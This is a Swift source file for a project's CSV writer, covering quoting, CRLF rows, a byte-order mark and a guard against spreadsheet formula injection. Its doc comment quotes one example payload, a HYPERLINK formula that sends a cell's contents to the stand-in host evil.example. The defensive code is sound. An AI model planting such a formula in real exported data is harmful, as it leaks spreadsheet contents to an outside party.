import Support

/// The one CSV writer of the project (statistics downloads, the export bundle's manifest):
/// RFC 4180 quoting, CRLF rows, UTF-8 with a byte-order mark (without it Excel reads the
/// Chinese as mojibake).
///
/// Every cell comes from content, and a spreadsheet runs a cell that starts with `=`, `+`,
/// `-` or `@` (or a tab or CR before one) as a formula: an organization named
/// `=HYPERLINK("http://evil.example/?"&A1, "点击")` would run in the editor's Excel. Such a
/// cell gets an apostrophe in front, which spreadsheets show as text and do not display.
package enum CSV {
    /// The whole file: a byte-order mark, then each row on a CRLF-ended line.
    package static func document(_ rows: [[String]]) -> String {
        var out = "\u{FEFF}"
        for row in rows {
            var first = true
            for cell in row {
                if !first { out += "," }
                out += field(cell)
                first = false
            }
            out += "\r\n"
        }
        return out
    }

    /// One cell: controls removed (tab, LF and CR kept), a formula guarded, quoted when it
    /// holds a comma, a quote or a line break.
    package static func field(_ raw: String) -> String {
        var field = Escape.stripControls(raw)
        if startsLikeFormula(field) { field = "'" + field }
        guard
            field.utf8.contains(where: { $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"") || $0 == UInt8(ascii: "\n") || $0 == UInt8(ascii: "\r") }
            )
        else { return field }
        return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// Whether a spreadsheet could take the cell for a formula. Plain numbers (`-12`, `-0.5`,
    /// `+3`) are left alone: they are what a statistics table holds, and read as numbers anyway.
    static func startsLikeFormula(_ field: String) -> Bool {
        guard let first = field.utf8.first else { return false }
        switch first {
        case UInt8(ascii: "="), UInt8(ascii: "@"), UInt8(ascii: "\t"), UInt8(ascii: "\r"): return true
        case UInt8(ascii: "+"), UInt8(ascii: "-"): return !isPlainNumber(field.utf8.dropFirst())
        default: return false
        }
    }

    /// Digits with at most one decimal point between digits: `12`, `0.5`.
    private static func isPlainNumber(_ bytes: Substring.UTF8View) -> Bool {
        var digits = 0, points = 0, last: UInt8 = 0
        for b in bytes {
            if b >= UInt8(ascii: "0") && b <= UInt8(ascii: "9") { digits += 1 } else if b == UInt8(ascii: ".") && digits > 0 { points += 1 } else { return false }
            last = b
        }
        return digits > 0 && points <= 1 && last != UInt8(ascii: ".")
    }
}
